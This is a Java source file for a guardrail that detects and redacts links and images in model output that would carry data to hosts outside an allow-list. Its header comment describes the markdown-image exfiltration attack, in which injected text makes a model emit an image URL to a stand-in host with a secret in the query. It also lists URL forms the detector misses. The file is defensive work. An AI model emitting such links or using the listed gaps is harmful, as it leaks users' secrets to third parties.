package dev.gatehouse.policies.guardrails;

import java.util.List;
import java.util.Locale;

/**
 * Finds links and images that would carry data to a host that is not allowed: the markdown-image
 * exfiltration, where injected text makes a model write {@code ![](https://evil.example/?q=SECRET)}
 * and the client that shows the answer fetches it.
 *
 * <p>A URL is one of: {@code http://} or {@code https://} anywhere in the text (a bare URL, an
 * autolink {@code <...>}, a markdown link {@code [text](url)} or image {@code ![alt](url)}, a
 * reference definition {@code [id]: url}, an HTML attribute); or protocol-relative
 * ({@code //host/...}) as a markdown destination or the value of an HTML {@code src}, {@code href},
 * {@code srcset}, {@code poster}, {@code background}, {@code lowsrc} or {@code action} attribute.
 * Its host is compared with the allowed hosts (exact names, or {@code *.example.com} for every
 * subdomain; case and a trailing dot ignored; ports ignored). A URL to another host is reported when
 * it carries data: any query ({@code ?...}), user information ({@code user@host}), a path segment
 * or host label longer than the segment limit, or a path longer than the path limit. With
 * {@code anyExternal} every URL to another host is reported; with {@code imagesOnly} only images
 * (markdown images, HTML image attributes, and reference definitions, which an image may use).
 *
 * <p>The finding's span is the URL, and redaction puts {@code [LINK REMOVED]} in its place: the
 * markdown around it stays ({@code ![chart]([LINK REMOVED])} is no longer an image a renderer
 * fetches, nor a link), and so does an HTML attribute ({@code src="[LINK REMOVED]"}, a relative
 * URL on the page's own host). The excerpt is the host.
 *
 * <p>Not covered: data in short path segments below both limits ({@code /a/b/c}), in a fragment
 * ({@code #...}, not sent to the server), schemes other than http and https, URLs a browser
 * repairs ({@code https:/\host}, {@code https:host}, white space inside), URLs assembled from
 * parts or encoded, HTML entities in attributes, and CSS {@code url(...)} without a scheme.
 * Where a URL ends follows GitHub's autolinks: at white space, {@code < > " ' `}, brackets, braces,
 * {@code | \ ^}, or a closing parenthesis without its opening one; trailing {@code .,;:!?*_~} is
 * not part of it.
 */
public final class ExfilLinkInspector implements Inspector {
  /** How far back a markdown destination looks for the {@code [} of its text, to tell an image from a link. */
  private static final int BRACKET_SCAN = 256;

  private final List<String> allowedHosts;
  private final int segmentChars;
  private final int pathChars;
  private final boolean imagesOnly;
  private final boolean anyExternal;

  /**
   * @param allowedHosts lower-case host names, or {@code *.} and a name for its subdomains (checked
   *     by {@link GuardrailConfig})
   * @param segmentChars a path segment or host label longer than this carries data
   * @param pathChars a path longer than this carries data
   * @param imagesOnly report images only, not links
   * @param anyExternal report every URL to a host not allowed, data or not
   */
  public ExfilLinkInspector(List<String> allowedHosts, int segmentChars, int pathChars, boolean imagesOnly, boolean anyExternal) {
    this.allowedHosts = List.copyOf(allowedHosts);
    this.segmentChars = segmentChars;
    this.pathChars = pathChars;
    this.imagesOnly = imagesOnly;
    this.anyExternal = anyExternal;
  }

  @Override
  public FindingKind kind() {
    return FindingKind.EXFIL_LINK;
  }

  private enum Context {
    MARKDOWN_IMAGE("markdown image", true),
    MARKDOWN_LINK("markdown link", false),
    REFERENCE("markdown reference", true),
    HTML_IMAGE("HTML image", true),
    HTML_LINK("HTML link", false),
    AUTOLINK("link", false),
    BARE("URL", false);

    final String noun;
    final boolean image;

    Context(String noun, boolean image) {
      this.noun = noun;
      this.image = image;
    }
  }

  @Override
  public void inspect(String text, int limit, FindingSink sink) {
    int i = 0;
    while (true) {
      int slashes = text.indexOf("//", i);
      if (slashes < 0 || slashes + 2 >= limit) {
        return;
      }
      int start = schemeStart(text, slashes);
      Context context = context(text, start);
      if (start == slashes && context != Context.MARKDOWN_IMAGE && context != Context.MARKDOWN_LINK
          && context != Context.REFERENCE && context != Context.HTML_IMAGE && context != Context.HTML_LINK) {
        i = slashes + 2; // "//" with no scheme outside a markdown destination or an attribute: not a URL
        continue;
      }
      int end = urlEnd(text, slashes + 2, limit);
      i = Math.max(end, slashes + 2);
      if (end <= slashes + 2) {
        continue;
      }
      check(text, start, slashes + 2, end, context, sink);
    }
  }

  /** The index of {@code http://} or {@code https://} ending at {@code slashes}, or {@code slashes}. */
  private static int schemeStart(String text, int slashes) {
    for (String scheme : new String[] {"https:", "http:"}) {
      int s = slashes - scheme.length();
      if (s >= 0 && text.regionMatches(true, s, scheme, 0, scheme.length()) && (s == 0 || !Character.isLetterOrDigit(text.charAt(s - 1)))) {
        return s;
      }
    }
    return slashes;
  }

  private static Context context(String text, int start) {
    int k = start;
    if (k >= 1 && text.charAt(k - 1) == '<') {
      if (k >= 3 && text.startsWith("](", k - 3)) {
        return markdown(text, k - 3);
      }
      return Context.AUTOLINK;
    }
    if (k >= 2 && text.startsWith("](", k - 2)) {
      return markdown(text, k - 2);
    }
    // An attribute: name, optional spaces, '=', optional spaces, optional quote.
    int p = k;
    if (p >= 1 && (text.charAt(p - 1) == '"' || text.charAt(p - 1) == '\'')) {
      p--;
    }
    while (p >= 1 && text.charAt(p - 1) == ' ') {
      p--;
    }
    if (p >= 1 && text.charAt(p - 1) == '=') {
      p--;
      while (p >= 1 && text.charAt(p - 1) == ' ') {
        p--;
      }
      int nameEnd = p;
      while (p >= 1 && nameEnd - p < 12 && Character.isLetter(text.charAt(p - 1))) {
        p--;
      }
      String name = text.substring(p, nameEnd).toLowerCase(Locale.ROOT);
      switch (name) {
        case "src", "srcset", "poster", "background", "lowsrc", "dynsrc", "data" -> {
          return Context.HTML_IMAGE;
        }
        case "href", "action", "formaction" -> {
          return Context.HTML_LINK;
        }
        default -> {
          return Context.BARE;
        }
      }
    }
    // A reference definition: "]:" and spaces before the URL.
    p = k;
    while (p >= 1 && (text.charAt(p - 1) == ' ' || text.charAt(p - 1) == '\t')) {
      p--;
    }
    if (p >= 2 && text.startsWith("]:", p - 2)) {
      return Context.REFERENCE;
    }
    return Context.BARE;
  }

  /** {@code close} is the index of the {@code ]} of {@code ](}: an image when its {@code [} follows a {@code !}. */
  private static Context markdown(String text, int close) {
    int depth = 0;
    for (int p = close - 1; p >= 0 && close - p <= BRACKET_SCAN; p--) {
      char c = text.charAt(p);
      if (c == ']') {
        depth++;
      } else if (c == '[') {
        if (depth == 0) {
          return p >= 1 && text.charAt(p - 1) == '!' ? Context.MARKDOWN_IMAGE : Context.MARKDOWN_LINK;
        }
        depth--;
      }
    }
    return Context.MARKDOWN_LINK;
  }

  /** Where the URL whose authority starts at {@code from} ends. */
  private static int urlEnd(String text, int from, int limit) {
    int p = from;
    if (p < limit && text.charAt(p) == '[') { // an IPv6 literal
      int close = indexOf(text, ']', p, Math.min(limit, p + 64));
      if (close == Math.min(limit, p + 64)) {
        return from;
      }
      p = close + 1;
    }
    int depth = 0;
    while (p < limit) {
      char c = text.charAt(p);
      if (c <= ' ' || Character.isWhitespace(c) || Character.isSpaceChar(c) || "<>\"'`[]{}|\\^".indexOf(c) >= 0) {
        break;
      }
      if (c == '(') {
        depth++;
      } else if (c == ')') {
        if (depth == 0) {
          break;
        }
        depth--;
      }
      p++;
    }
    while (p > from && ".,;:!?*_~".indexOf(text.charAt(p - 1)) >= 0) {
      p--;
    }
    return p;
  }

  private void check(String text, int start, int authority, int end, Context context, FindingSink sink) {
    if (imagesOnly && !context.image) {
      return;
    }
    int authEnd = authority;
    while (authEnd < end && "/?#".indexOf(text.charAt(authEnd)) < 0) {
      authEnd++;
    }
    int at = authEnd - 1;
    while (at >= authority && text.charAt(at) != '@') {
      at--;
    }
    boolean userinfo = at >= authority;
    int hostStart = userinfo ? at + 1 : authority;
    int hostEnd;
    if (hostStart < authEnd && text.charAt(hostStart) == '[') {
      int close = indexOf(text, ']', hostStart, authEnd);
      hostEnd = close == authEnd ? authEnd : close + 1;
    } else {
      hostEnd = hostStart;
      while (hostEnd < authEnd && text.charAt(hostEnd) != ':') {
        hostEnd++;
      }
    }
    String host = text.substring(hostStart, hostEnd).toLowerCase(Locale.ROOT);
    while (host.endsWith(".")) {
      host = host.substring(0, host.length() - 1);
    }
    if (host.isEmpty() || allowed(host)) {
      return;
    }
    String why = anyExternal ? "to a host not allowed" : carriesData(text, host, userinfo, authEnd, end);
    if (why != null) {
      sink.report(FindingKind.EXFIL_LINK, start, end, context.noun + " " + why, host);
    }
  }

  /** Why the URL carries data, or null when it does not. */
  private String carriesData(String text, String host, boolean userinfo, int pathStart, int end) {
    int hash = indexOf(text, '#', pathStart, end);
    int queryAt = indexOf(text, '?', pathStart, hash);
    int pathEnd = queryAt < hash ? queryAt : hash;
    if (queryAt + 1 < hash) {
      return "to a host not allowed, with a query";
    }
    if (userinfo) {
      return "to a host not allowed, with user information";
    }
    if (pathEnd - pathStart > pathChars) {
      return "to a host not allowed, with a path longer than " + pathChars + " characters";
    }
    int seg = 0;
    for (int p = pathStart; p < pathEnd; p++) {
      seg = text.charAt(p) == '/' ? 0 : seg + 1;
      if (seg > segmentChars) {
        return "to a host not allowed, with a path segment longer than " + segmentChars + " characters";
      }
    }
    for (String label : host.split("\\.")) {
      if (label.length() > segmentChars) {
        return "to a host not allowed, with a host label longer than " + segmentChars + " characters";
      }
    }
    return null;
  }

  /** The first {@code c} in {@code text[from, to)}, or {@code to}. */
  private static int indexOf(String text, char c, int from, int to) {
    for (int i = from; i < to; i++) {
      if (text.charAt(i) == c) {
        return i;
      }
    }
    return to;
  }

  private boolean allowed(String host) {
    for (String a : allowedHosts) {
      if (a.startsWith("*.")) {
        String suffix = a.substring(1); // ".example.com"
        if (host.endsWith(suffix) && host.length() > suffix.length()) {
          return true;
        }
      } else if (host.equals(a)) {
        return true;
      }
    }
    return false;
  }
}
